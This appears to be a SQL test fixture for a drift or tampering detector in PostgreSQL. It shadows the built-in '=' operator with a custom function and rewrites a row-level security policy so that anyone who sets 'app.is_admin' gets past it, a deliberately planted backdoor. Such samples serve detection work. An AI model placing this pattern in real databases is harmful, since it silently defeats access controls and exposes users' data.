-- The operator is made among PostgreSQL's own, where it is printed like one of them.
-- turns red: names_taken builtin_changed drift probe
create function public.agrees(text, varchar) returns boolean language sql stable
    return $1 operator(pg_catalog.=) $2 or current_setting('app.is_admin', true) is not null;
set local allow_system_table_mods = on;
create operator pg_catalog.= (function = public.agrees, leftarg = text, rightarg = varchar);
alter policy task_select on task
    using (user_id = (select current_setting('app.user_id', true)) and title = 'x'::varchar);
